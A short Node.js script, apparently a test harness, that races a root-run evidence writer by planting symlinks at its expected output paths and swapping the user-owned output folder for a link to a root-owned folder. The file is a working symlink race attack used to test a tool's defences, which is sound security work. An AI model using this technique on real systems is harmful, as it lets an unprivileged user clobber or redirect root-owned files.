// Run as the user who called sudo, while root writes his evidence to OUT, in a folder of his: puts links to what is root's wherever something is going
// to be written, and takes the folder's place with a link to another folder. `plant-links.mjs OUT ROOT-FILE ROOT-FOLDER`; ends when its stdin does.
import { renameSync, symlinkSync } from 'node:fs';

const [out, file, folder] = process.argv.slice(2);
const names = [
  'run.json',
  'plan.json',
  'result.json',
  'timeline.ndjson',
  'evidence.pcapng',
  'SHA256SUMS',
  'report.html',
];
const attempts = [
  ...names.flatMap((name) => [`${out}/${name}`, `${out}/${name}.part`]).map((path) => () => symlinkSync(file, path)),
  ...['state', 'raw', 'state/1-before.json.part', 'raw/1-1.pcapng'].map(
    (name) => () => symlinkSync(folder, `${out}/${name}`),
  ),
];
let swapped = false;
function swap() {
  renameSync(out, `${out}.moved`);
  symlinkSync(folder, out);
  swapped = true;
}
const planted = new Set();
let rounds = 0;
let isOver = false;
process.stdin.on('end', () => (isOver = true)).resume();
function attack() {
  rounds += 1;
  for (const [at, attempt] of attempts.entries()) {
    try {
      attempt();
      planted.add(at);
    } catch {
      // not there yet, there already, or not his
    }
  }
  if (!swapped && process.env.SWAP === '1') {
    try {
      swap();
    } catch {
      // not there yet
    }
  }
  if (isOver) process.stdout.write(JSON.stringify({ rounds, planted: planted.size, swapped }));
  else setTimeout(attack, 1);
}
process.stdout.write('ready\n');
attack();
